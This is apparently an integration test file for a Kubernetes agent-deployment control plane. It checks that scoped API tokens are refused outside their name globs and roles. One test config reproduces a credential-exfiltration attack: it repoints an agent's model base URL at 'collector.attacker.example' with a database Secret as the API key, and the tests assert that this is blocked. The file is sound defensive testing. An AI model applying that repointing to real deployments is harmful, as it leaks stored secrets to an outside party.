/**
 * Scoped API tokens, through the whole app against the real API server and MinIO. Four tokens
 * of one control plane: an old-style bare hash (admin), `deployer:tok-a-*`, `viewer:tok-a-*`
 * and `deployer:tok-*`. Each refusal is checked twice: the 403 names the token's scope, and
 * nothing changed (the store's record, the cluster's Deployment).
 *
 * The attack of issue 18 finding 3 is reproduced: a token that reaches an agent's name (here
 * `deployer:tok-*`) repoints its `provider.baseUrl` at a collector with `provider.apiKey` from the
 * agent's database Secret. Before scopes every token was an admin and the repoint was stored and
 * applied; now it is refused unless it comes from the scope that created the agent or an admin.
 */
import { createHash } from 'node:crypto';
import { AppsV1Api, KubeConfig } from '@kubernetes/client-node';
import { afterAll, describe, expect, it } from 'vitest';
import type { Tombstone } from '../../functions/src/core/agent-record.ts';
import { testEnv } from '../env/inject.ts';
import { harness, storeBlobs, waitFor } from '../support/control-plane-harness.ts';

const sha256 = (text: string) => createHash('sha256').update(text).digest('hex');
const TOKENS = {
  admin: 'tok-admin-token',
  deployerA: 'tok-deployer-a-token',
  viewerA: 'tok-viewer-a-token',
  deployerAll: 'tok-deployer-all-token',
};
const HASHES = [
  sha256(TOKENS.admin),
  `${sha256(TOKENS.deployerA)}@deployer:tok-a-*`,
  `${sha256(TOKENS.viewerA)}@viewer:tok-a-*`,
  `${sha256(TOKENS.deployerAll)}@deployer:tok-*`,
].join(',');

const plane = harness({ FLEETPLANE_API_TOKEN_HASHES: HASHES });
const as = (who: keyof typeof TOKENS) => ({ authorization: `Bearer ${TOKENS[who]}` });
const call = (who: keyof typeof TOKENS, method: string, path: string, body?: unknown) =>
  plane.call(method, path, body, as(who));

function apps() {
  const config = new KubeConfig();
  config.loadFromFile(testEnv().kubeconfigPath);
  return config.makeApiClient(AppsV1Api);
}
const deploymentOf = (name: string) =>
  apps().readNamespacedDeployment({ name, namespace: testEnv().namespace });
const generationOf = async (name: string) =>
  (await call('admin', 'GET', `/deployments/${name}/config`)).json.generation;

const created = new Set<string>();
async function deploy(who: keyof typeof TOKENS, config: { name: string } & Record<string, unknown>) {
  const answer = await call(who, 'POST', '/deploy', config);
  if (answer.status < 300) created.add(config.name);
  return answer;
}

afterAll(async () => {
  for (const name of created) await call('admin', 'DELETE', `/deployments/${name}`);
});

describe('a token acts only within its scope', () => {
  it('deployer:tok-a-* deploys tok-a-x; tok-b-x is a 403 to deploy and to read, and stays as it was', async () => {
    expect((await deploy('admin', { name: 'tok-b-x' })).status).toBe(201);
    expect((await deploy('deployerA', { name: 'tok-a-x' })).status).toBe(201);

    const refused = await deploy('deployerA', { name: 'tok-b-x', instruction: 'Taken over.' });
    expect(refused.status).toBe(403);
    expect(refused.json).toMatchObject({ type: 'https://fleetplane.io/problems/forbidden', status: 403 });
    expect(refused.json.detail).toMatch(
      /^this token's scope is deployer:tok-a-\* .*may not deploy "tok-b-x"/,
    );
    expect(await generationOf('tok-b-x')).toBe(1);

    const read = await call('deployerA', 'GET', '/deployments/tok-b-x');
    expect(read.status).toBe(403);
    expect(read.json.detail).toMatch(/scope is deployer:tok-a-\*.*may not get "tok-b-x"/);
    for (const [method, path] of [
      ['GET', '/deployments/tok-b-x/config'],
      ['GET', '/deployments/tok-b-x/revisions'],
      ['GET', '/deployments/tok-b-x/logs'],
      ['GET', '/deployments/tok-b-x/logs?build=true'],
      ['POST', '/deployments/tok-b-x/rollback'],
      ['DELETE', '/deployments/tok-b-x'],
    ] as const)
      expect({ method, path, status: (await call('deployerA', method, path)).status }).toEqual({
        method,
        path,
        status: 403,
      });
    // Still there, untouched, in the store and in the cluster.
    expect((await call('admin', 'GET', '/deployments/tok-b-x')).status).toBe(200);
    expect((await deploymentOf('tok-b-x')).metadata?.name).toBe('tok-b-x');
  });

  it('lists only the names in scope, page by page, without leaking the others or their count', async () => {
    for (const name of ['tok-a-1', 'tok-b-1', 'tok-a-2', 'tok-b-2'])
      expect((await deploy('admin', { name })).status).toBe(201);
    const everything = (await call('admin', 'GET', '/deployments')).json.deployments.map(
      (agent: { name: string }) => agent.name,
    );
    expect(everything).toEqual(
      expect.arrayContaining(['tok-a-1', 'tok-b-1', 'tok-a-2', 'tok-b-2', 'tok-b-x']),
    );

    const seen: string[] = [];
    const tokens: string[] = [];
    let next: string | undefined;
    do {
      const page = await call('viewerA', 'GET', `/deployments?limit=1${next ? `&continue=${next}` : ''}`);
      expect(page.status).toBe(200);
      expect(page.json.deployments).toHaveLength(1);
      seen.push(page.json.deployments[0].name);
      next = page.json.continue;
      if (next) tokens.push(next);
    } while (next);
    expect(seen).toEqual(['tok-a-1', 'tok-a-2', 'tok-a-x']);
    // The continue tokens name only agents in scope, and there is none after the last one.
    const afters = tokens.map((token) => JSON.parse(Buffer.from(token, 'base64url').toString()).after);
    expect(afters).toEqual(['tok-a-1', 'tok-a-2']);
    // A continue token made up to start among another team's names shows no more of them.
    const forged = Buffer.from(JSON.stringify({ after: 'tok-a-3' })).toString('base64url');
    expect(
      (await call('viewerA', 'GET', `/deployments?continue=${forged}`)).json.deployments.map(
        (agent: { name: string }) => agent.name,
      ),
    ).toEqual(['tok-a-x']);
  });

  it('a viewer reads within its glob and writes nothing: its deploy, delete and rollback are 403s', async () => {
    expect((await call('viewerA', 'GET', '/deployments/tok-a-x')).status).toBe(200);
    expect((await call('viewerA', 'GET', '/deployments/tok-a-x/logs?tail=5')).status).toBe(200);
    const deployed = await deploy('viewerA', { name: 'tok-a-new' });
    expect(deployed.status).toBe(403);
    expect(deployed.json.detail).toMatch(
      /^this token's scope is viewer:tok-a-\* \(read-only.*may not deploy/,
    );
    expect((await call('admin', 'GET', '/deployments/tok-a-new')).status).toBe(404);
    expect((await call('viewerA', 'DELETE', '/deployments/tok-a-x')).status).toBe(403);
    expect((await call('viewerA', 'POST', '/deployments/tok-a-x/rollback')).status).toBe(403);
    expect((await call('admin', 'GET', '/deployments/tok-a-x')).status).toBe(200);
  });

  it('refuses a batch with one agent outside the scope whole: nothing of it is written', async () => {
    const batch = await call('deployerA', 'POST', '/deploy', {
      agents: [{ name: 'tok-a-batch' }, { name: 'tok-b-batch' }],
    });
    expect(batch.status).toBe(403);
    expect(batch.json.detail).toMatch(/may not deploy "tok-b-batch".*refused whole/);
    for (const name of ['tok-a-batch', 'tok-b-batch'])
      expect((await call('admin', 'GET', `/deployments/${name}`)).status).toBe(404);
  });

  it('gc is for admins only; an old-style hash is an admin, and whoami says who each token is', async () => {
    const gc = await call('deployerAll', 'GET', '/gc');
    expect(gc.status).toBe(403);
    expect(gc.json.detail).toMatch(/scope is deployer:tok-\* .*may not gc: that needs an admin token/);
    expect((await call('deployerAll', 'POST', '/gc', { dryRun: false })).status).toBe(403);
    expect((await call('admin', 'GET', '/gc')).status).toBe(200);
    expect((await call('admin', 'GET', '/whoami')).json).toMatchObject({ scope: 'admin:*', via: 'token' });
    expect((await call('viewerA', 'GET', '/whoami')).json).toMatchObject({
      scope: 'viewer:tok-a-*',
      role: 'viewer',
      names: 'tok-a-*',
    });
  });
});

describe("who may change where an agent's Secrets go", () => {
  const ownConfig = {
    name: 'tok-a-support',
    provider: { baseUrl: 'https://llm.example.com/v1', apiKey: { name: 'tok-a-support.llm', key: 'key' } },
    env: [{ name: 'DATABASE_URL', secretRef: { name: 'tok-a-support.db', key: 'url' } }],
  };
  const repointed = {
    ...ownConfig,
    provider: {
      baseUrl: 'https://collector.attacker.example/v1',
      apiKey: { name: 'tok-a-support.db', key: 'url' },
    },
  };
  const providerEnv = async () =>
    Object.fromEntries(
      ((await deploymentOf('tok-a-support')).spec?.template.spec?.containers[0]?.env ?? [])
        .filter((item) => item.name.startsWith('OPENAI_'))
        .map((item) => [item.name, item.value ?? item.valueFrom?.secretKeyRef]),
    );

  it('refuses the repoint from another scope that reaches the name; the store and the cluster keep the owner’s', async () => {
    expect((await deploy('deployerA', ownConfig)).status).toBe(201);
    const before = await providerEnv();
    expect(before).toEqual({
      OPENAI_API_KEY: { name: 'tok-a-support.llm', key: 'key' },
      OPENAI_BASE_URL: 'https://llm.example.com/v1',
    });

    const attack = await deploy('deployerAll', repointed);
    expect(attack.status).toBe(403);
    expect(attack.json.detail).toBe(
      'changing where agent "tok-a-support" sends its Secrets or model calls (provider.baseUrl, provider.apiKey): only an admin token or the scope that created it (deployer:tok-a-*) may; this token\'s scope is deployer:tok-* (deploy, delete, roll back and read agents named tok-*)',
    );
    expect(await generationOf('tok-a-support')).toBe(1);
    expect(await providerEnv()).toEqual(before);

    // In a batch, the same change fails that agent alone, as a 403 in its result.
    const batch = await call('deployerAll', 'POST', '/deploy', { agents: [repointed, { name: 'tok-c-1' }] });
    created.add('tok-c-1');
    expect(batch.status).toBe(207);
    expect(batch.json.failed).toEqual(['tok-a-support']);
    expect(batch.json.results[0]).toMatchObject({ name: 'tok-a-support', status: 403 });
    expect(await providerEnv()).toEqual(before);

    // The same scope may change anything else: a prompt is not a Secret.
    const prompt = await deploy('deployerAll', { ...ownConfig, instruction: 'Be brief.' });
    expect(prompt.status).toBe(200);
    expect(prompt.json).toMatchObject({ outcome: 'updated', generation: 2 });
  });

  it('lets the creating scope and an admin change it, and holds a rollback to the same rule', async () => {
    const moved = {
      ...ownConfig,
      provider: { ...ownConfig.provider, baseUrl: 'https://llm2.example.com/v1' },
    };
    expect((await deploy('deployerA', moved)).json).toMatchObject({ outcome: 'updated', generation: 3 });
    await waitFor(
      'the new base URL applied',
      async () => (await providerEnv()).OPENAI_BASE_URL === 'https://llm2.example.com/v1',
    );

    // Generation 2 sends the model calls elsewhere than generation 3 does: rolling back is that change.
    const rollback = await call('deployerAll', 'POST', '/deployments/tok-a-support/rollback', {
      generation: 2,
    });
    expect(rollback.status).toBe(403);
    expect(rollback.json.detail).toMatch(
      /\(provider\.baseUrl\): only an admin token or the scope that created it/,
    );
    expect(await generationOf('tok-a-support')).toBe(3);

    expect(
      (await call('admin', 'POST', '/deployments/tok-a-support/rollback', { generation: 2 })).status,
    ).toBe(200);
    expect(await generationOf('tok-a-support')).toBe(4);
    const record = (await call('admin', 'GET', '/deployments/tok-a-support/revisions')).json;
    expect(record.current).toBe(4);
  });

  it('a delete notes in its answer and its tombstone that the name’s Secrets are released', async () => {
    const deleted = await call('deployerA', 'DELETE', '/deployments/tok-a-support');
    expect(deleted.status).toBe(200);
    created.delete('tok-a-support');
    expect(deleted.json.releasedSecrets).toEqual({
      names: 'tok-a-support.*',
      detail: expect.stringMatching(
        /were not deleted: whoever deploys the name "tok-a-support" next may read them/,
      ),
    });
    const blob = await storeBlobs(plane.env).get('agents/tok-a-support.json');
    const tombstone = JSON.parse(blob?.body ?? '{}') as Tombstone;
    expect(tombstone).toMatchObject({
      kind: 'Tombstone',
      deletedBy: 'deployer:tok-a-*',
      createdBy: 'deployer:tok-a-*',
      releasedSecrets: deleted.json.releasedSecrets,
    });
  });

  it('keeps the owner across the delete: another scope cannot claim the released Secrets by deploying the name again', async () => {
    const claimed = await deploy('deployerAll', repointed);
    expect(claimed.status).toBe(403);
    expect(claimed.json.detail).toBe(
      'deploying "tok-a-support" again with Secret references (env[DATABASE_URL].secretRef, provider.apiKey): its Secrets (tok-a-support.*) outlive the agent deleted under that name, and only an admin token or the scope that created it (deployer:tok-a-*) may; this token\'s scope is deployer:tok-* (deploy, delete, roll back and read agents named tok-*)',
    );
    expect((await call('admin', 'GET', '/deployments/tok-a-support')).status).toBe(404);

    // Without Secrets it may deploy the name, but the owner stays, so it cannot add them afterwards.
    expect((await deploy('deployerAll', { name: 'tok-a-support' })).status).toBe(201);
    const added = await deploy('deployerAll', repointed);
    expect(added.status).toBe(403);
    expect(added.json.detail).toMatch(
      /only an admin token or the scope that created it \(deployer:tok-a-\*\) may/,
    );
    expect((await deploy('deployerA', ownConfig)).json).toMatchObject({ outcome: 'updated', generation: 2 });
  });
});
